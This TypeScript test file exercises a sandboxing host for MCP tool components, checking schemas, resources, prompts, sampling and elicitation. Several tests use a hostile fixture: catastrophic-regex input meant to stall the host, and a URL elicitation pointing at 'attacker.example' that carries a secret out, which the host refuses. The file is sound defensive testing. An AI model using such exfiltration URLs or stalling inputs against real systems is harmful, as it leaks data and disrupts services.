// A component that declares its own tools through airlock:tool/provider, over stdio with a real
// MCP client: its names, schemas and annotations are listed, its arguments are validated by the
// host against its own schema, and its rich content reaches the client.
import { Client } from "@modelcontextprotocol/sdk/client/index.js";
import { StdioClientTransport } from "@modelcontextprotocol/sdk/client/stdio.js";
import { CreateMessageRequestSchema, ElicitRequestSchema, type CallToolResult } from "@modelcontextprotocol/sdk/types.js";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { airlock, CLI, connect, fixture, serveComponents, tempHome } from "./helpers/airlock.js";
import { verifies } from "./requirements/requirements.js";

let served: Awaited<ReturnType<typeof serveComponents>>;

beforeAll(async () => {
  served = await serveComponents(fixture("mcp-conformance"));
});
afterAll(async () => served?.cleanup());

const call = async (name: string, args: Record<string, unknown> = {}) => (await served.mcp.client.callTool({ name, arguments: args })) as CallToolResult;

describe("a provider component", () => {
  it("is run at load to list its tools, which airlock load reports", async () => {
    const home = await tempHome();
    try {
      const loaded = await airlock(home, "load", fixture("mcp-conformance"));
      expect(loaded.stdout).toMatch(/^loaded mcp-conformance \(sha256 [0-9a-f]{12}, 23 tools: test_simple_text, test_image_content, .*json_schema_2020_12_tool\)\n$/);
    } finally {
      await home.cleanup();
    }
  });

  it("is listed with the names, schemas and annotations it declared, not as list-tools/call-tool", async () => {
    verifies("contract:components:provider", "mcp:tools:annotations");
    const { tools } = await served.mcp.client.listTools();
    const names = tools.map((t) => t.name);
    expect(names).toContain("test_simple_text");
    expect(names.some((n) => n.includes("list-tools") || n.includes("call-tool"))).toBe(false);
    const simple = tools.find((t) => t.name === "test_simple_text")!;
    // It declared read-only and closed-world, but it imports the environment interface: the host
    // does not vouch for those two claims, and passes on the rest.
    expect(simple.annotations).toEqual({ title: "Simple text", destructiveHint: false, idempotentHint: true });
    const schema = tools.find((t) => t.name === "json_schema_2020_12_tool")!;
    expect(schema.inputSchema.$defs).toBeDefined();
    expect(schema.outputSchema).toEqual({ type: "object", properties: { greeting: { type: "string" } }, required: ["greeting"] });
  });

  it("has its arguments checked against its own schema before the call", async () => {
    const result = await call("json_schema_2020_12_tool", { name: "Ada", age: 3 });
    expect(result.isError).toBe(true);
    expect((result.content[0] as { text: string }).text).toBe("invalid arguments for json_schema_2020_12_tool: /age: is not a known property (additionalProperties; allowed: name, address)");
  });

  it("returns its structured content, checked against its output schema", async () => {
    verifies("mcp:tools:structured-content");
    const result = await call("json_schema_2020_12_tool", { name: "Ada", address: { city: "London" } });
    expect(result.isError).toBeFalsy();
    expect(result.structuredContent).toEqual({ greeting: "Hello, Ada" });
  });

  it("returns images, audio and embedded resources as MCP content", async () => {
    verifies("mcp:tools:rich-content");
    const mixed = await call("test_multiple_content_types");
    expect(mixed.content.map((c) => c.type)).toEqual(["text", "image", "resource"]);
    const image = mixed.content[1] as { data: string; mimeType: string };
    expect(Buffer.from(image.data, "base64").subarray(1, 4).toString()).toBe("PNG");
    const audio = (await call("test_audio_content")).content[0] as { data: string; mimeType: string };
    expect(audio.mimeType).toBe("audio/wav");
    expect(Buffer.from(audio.data, "base64").subarray(0, 4).toString()).toBe("RIFF");
  });

  it("reports a tool's own failure as isError with its text", async () => {
    const result = await call("test_error_handling");
    expect(result).toMatchObject({ isError: true, content: [{ type: "text", text: "This tool intentionally returns an error for testing" }] });
  });
});

describe("resources and prompts a component offers (airlock:tool/resources, prompts)", () => {
  it("lists and reads its resources and templates, run in its sandbox; an unknown URI is -32002 with its URI", async () => {
    verifies("mcp:resources:list-read");
    const { resources } = await served.mcp.client.listResources();
    expect(resources.map((r) => r.uri)).toEqual(["test://static-text", "test://static-binary", "test://watched-resource"]);
    expect(resources[0]!._meta).toEqual({ "airlock/component": "mcp-conformance" });
    const { resourceTemplates } = await served.mcp.client.listResourceTemplates();
    expect(resourceTemplates.map((t) => t.uriTemplate)).toEqual(["test://template/{id}/data"]);
    expect((await served.mcp.client.readResource({ uri: "test://static-text" })).contents).toEqual([
      { uri: "test://static-text", mimeType: "text/plain", text: "This is the content of the static text resource." },
    ]);
    const fromTemplate = await served.mcp.client.readResource({ uri: "test://template/42/data" });
    expect(JSON.parse((fromTemplate.contents[0] as { text: string }).text)).toEqual({ id: "42", templateTest: true, data: "Data for ID: 42" });
    await expect(served.mcp.client.readResource({ uri: "test://nothing" })).rejects.toMatchObject({ code: -32002, data: { uri: "test://nothing" } });
    // A URI the template matches but the component refuses: its own error, as a protocol error.
    await expect(served.mcp.client.readResource({ uri: "test://template/a/b/data" })).rejects.toMatchObject({ code: -32002 });
  });

  it("accepts subscriptions to its resources only", async () => {
    verifies("mcp:resources:subscribe");
    expect(await served.mcp.client.subscribeResource({ uri: "test://watched-resource" })).toEqual({});
    expect(await served.mcp.client.unsubscribeResource({ uri: "test://watched-resource" })).toEqual({});
    await expect(served.mcp.client.subscribeResource({ uri: "test://nothing" })).rejects.toMatchObject({ code: -32002 });
  });

  it("lists and gets its prompts, refusing missing arguments, and completes their arguments", async () => {
    verifies("mcp:prompts:list-get", "mcp:completion:complete");
    const { prompts } = await served.mcp.client.listPrompts();
    expect(prompts.map((p) => p.name)).toEqual(["test_simple_prompt", "test_prompt_with_arguments", "test_prompt_with_embedded_resource", "test_prompt_with_image"]);
    const got = await served.mcp.client.getPrompt({ name: "test_prompt_with_arguments", arguments: { arg1: "a", arg2: "b" } });
    expect(got.messages).toEqual([{ role: "user", content: { type: "text", text: "Prompt with arguments: arg1='a', arg2='b'" } }]);
    await expect(served.mcp.client.getPrompt({ name: "test_prompt_with_arguments", arguments: { arg1: "a" } })).rejects.toThrow("needs the argument arg2");
    await expect(served.mcp.client.getPrompt({ name: "nothing" })).rejects.toThrow('no prompt "nothing"');
    const completion = await served.mcp.client.complete({ ref: { type: "ref/prompt", name: "test_prompt_with_arguments" }, argument: { name: "arg1", value: "par" } });
    expect(completion.completion.values).toEqual(["paris", "park", "party"]);
  });
});

describe("a component asking the client (airlock:tool/client)", () => {
  it("gets a sampling answer from a client that supports sampling, within the call", async () => {
    verifies("mcp:client:sampling");
    const home = await tempHome();
    try {
      expect((await airlock(home, "load", fixture("mcp-conformance"))).code).toBe(0);
      const transport = new StdioClientTransport({ command: process.execPath, args: [CLI, "serve"], env: home.env as Record<string, string>, stderr: "ignore" });
      const client = new Client({ name: "sampling-test", version: "0" }, { capabilities: { sampling: {}, elicitation: {} } });
      const asked: unknown[] = [];
      client.setRequestHandler(CreateMessageRequestSchema, (request) => {
        asked.push(request.params);
        return { role: "assistant", content: { type: "text", text: "forty-two" }, model: "test-model", stopReason: "endTurn" };
      });
      client.setRequestHandler(ElicitRequestSchema, () => ({ action: "decline" }));
      await client.connect(transport);
      const sampled = (await client.callTool({ name: "test_sampling", arguments: { prompt: "What is six times seven?" } })) as CallToolResult;
      expect(sampled.content).toEqual([{ type: "text", text: "LLM response: forty-two" }]);
      expect(asked).toEqual([{ messages: [{ role: "user", content: { type: "text", text: "What is six times seven?" } }], maxTokens: 100 }]);
      verifies("mcp:client:elicitation");
      const elicited = (await client.callTool({ name: "test_elicitation", arguments: { message: "Who are you?" } })) as CallToolResult;
      expect(elicited.content).toEqual([{ type: "text", text: "Elicitation completed: action=decline, content={}" }]);
      await client.close();
    } finally {
      await home.cleanup();
    }
  });

  it("gets a clear error from a client that does not support sampling", async () => {
    const result = await call("test_sampling", { prompt: "hello" });
    expect(result).toMatchObject({
      isError: true,
      content: [{ type: "text", text: "the client could not answer: the MCP client does not support sampling: it did not declare the capability when it connected" }],
    });
  });
});

describe("a provider whose own schemas attack the host", () => {
  it("catastrophic patterns in its schemas stop only its call, at the time limit; the host keeps answering", async () => {
    verifies("contract:components:provider-schemas-sandboxed");
    const home = await tempHome();
    try {
      expect((await airlock(home, "load", fixture("hostile-provider"))).code).toBe(0);
      // A limit long enough that the quick call answers first on a busy 2-core machine too.
      const mcp = await connect(home, "--timeout", "8s", "--workers", "3");
      try {
        const settled: string[] = [];
        const slowOutput = (mcp.client.callTool({ name: "slow_output", arguments: {} }) as Promise<CallToolResult>).finally(() => settled.push("slow_output"));
        const slowInput = (mcp.client.callTool({ name: "slow_input", arguments: { s: `${"a".repeat(40)}!` } }) as Promise<CallToolResult>).finally(() => settled.push("slow_input"));
        // While both are stuck in their patterns, the host answers other requests.
        await mcp.client.ping();
        // A component that can reach nothing is read-only and closed-world, whatever it declares.
        const quick = (await mcp.client.listTools()).tools.find((t) => t.name === "quick")!;
        expect(quick.annotations).toEqual({ readOnlyHint: true, openWorldHint: false });
        expect((await mcp.client.callTool({ name: "quick", arguments: {} })).content).toEqual([{ type: "text", text: "quick done" }]);
        settled.push("quick");
        for (const result of [await slowOutput, await slowInput]) {
          expect(result.isError).toBe(true);
          expect((result.content[0] as { text: string }).text).toMatch(/stopped: the call exceeded the time limit of 8 s/);
        }
        expect(settled[0]).toBe("quick");
      } finally {
        await mcp.close();
      }
    } finally {
      await home.cleanup();
    }
  });
});

describe("requests to the client stay inside the sandbox", () => {
  let home: Awaited<ReturnType<typeof tempHome>>;
  let client: Client;
  const received: { method: string; params: unknown }[] = [];
  const raw = async (kind: "sampling" | "elicitation", params: unknown, times = 1) => {
    const result = (await client.callTool({ name: "raw_client", arguments: { kind, params: JSON.stringify(params), times } })) as CallToolResult;
    return result.content.map((c) => (c as { text: string }).text);
  };
  const message = { messages: [{ role: "user", content: { type: "text", text: "hi" } }], maxTokens: 10 };

  beforeAll(async () => {
    home = await tempHome();
    expect((await airlock(home, "load", fixture("hostile-provider"))).code).toBe(0);
    client = new Client({ name: "client-requests-test", version: "0" }, { capabilities: { sampling: {}, elicitation: { form: {}, url: {} } } });
    client.setRequestHandler(CreateMessageRequestSchema, (request) => {
      received.push({ method: request.method, params: request.params });
      return { role: "assistant", content: { type: "text", text: "ok" }, model: "m" };
    });
    client.setRequestHandler(ElicitRequestSchema, (request) => {
      received.push({ method: request.method, params: request.params });
      return { action: "cancel" };
    });
    await client.connect(new StdioClientTransport({ command: process.execPath, args: [CLI, "serve"], env: home.env as Record<string, string>, stderr: "ignore" }));
  });
  afterAll(async () => {
    await client?.close();
    await home?.cleanup();
  });

  it("refuses sampling that asks for other servers' context", async () => {
    received.length = 0;
    expect(await raw("sampling", { ...message, includeContext: "allServers" })).toEqual([
      'error: includeContext "allServers" is not allowed: a sandboxed component may not ask for context from other servers',
    ]);
    expect(received).toEqual([]);
  });

  it("refuses URL-mode elicitation, which could carry data out without a network grant", async () => {
    received.length = 0;
    const url = { mode: "url", message: "Open this", url: "https://attacker.example/collect?secret=42", elicitationId: "e1" };
    expect(await raw("elicitation", url)).toEqual(['error: elicitation mode "url" is not allowed: only form elicitation (a URL could carry data out of the sandbox)']);
    expect(received).toEqual([]);
  });

  it("refuses malformed params at once instead of leaving the call hanging", async () => {
    const [answer] = await raw("sampling", [1]);
    expect(answer).toMatch(/^error: the sampling\/createMessage params are not valid MCP params: /);
  });

  it("passes only the protocol's own fields, and at most 16 requests a call", async () => {
    received.length = 0;
    const answers = await raw("sampling", { ...message, _meta: { "attacker/x": 1 } }, 18);
    expect(answers.filter((a) => a.startsWith("{"))).toHaveLength(16);
    expect(answers.slice(16)).toEqual(["error: a call may ask the client at most 16 times", "error: a call may ask the client at most 16 times"]);
    expect(received[0]).toEqual({ method: "sampling/createMessage", params: message });
  });
});

describe("a call that ends while the client is still answering", () => {
  it("withdraws its request: the client gets notifications/cancelled for it", async () => {
    const home = await tempHome();
    try {
      expect((await airlock(home, "load", fixture("hostile-provider"))).code).toBe(0);
      const client = new Client({ name: "withdraw-test", version: "0" }, { capabilities: { elicitation: {} } });
      const asked: (string | number)[] = [];
      // The user never answers.
      client.setRequestHandler(ElicitRequestSchema, (_request, extra) => {
        asked.push(extra.requestId);
        return new Promise(() => undefined);
      });
      // The time limit ends the call; it leaves room for the guest to ask first on a busy machine
      // (1 s was not always enough with other tests running beside it).
      const transport = new StdioClientTransport({ command: process.execPath, args: [CLI, "serve", "--timeout", "4s"], env: home.env as Record<string, string>, stderr: "ignore" });
      await client.connect(transport);
      // Watch the wire: the SDK's client does not abort a handler for request id 0 (a falsy id).
      const cancelled: unknown[] = [];
      const deliver = transport.onmessage!;
      transport.onmessage = (message) => {
        if ("method" in message && message.method === "notifications/cancelled") cancelled.push(message.params?.requestId);
        deliver(message);
      };
      const params = JSON.stringify({ message: "Still there?", requestedSchema: { type: "object", properties: {} } });
      const result = (await client.callTool({ name: "raw_client", arguments: { kind: "elicitation", params } })) as CallToolResult;
      expect((result.content[0] as { text: string }).text).toMatch(/stopped: the call exceeded the time limit of 4 s/);
      expect(cancelled).toEqual(asked);
      expect(asked).toHaveLength(1);
      await client.close();
    } finally {
      await home.cleanup();
    }
  });
});
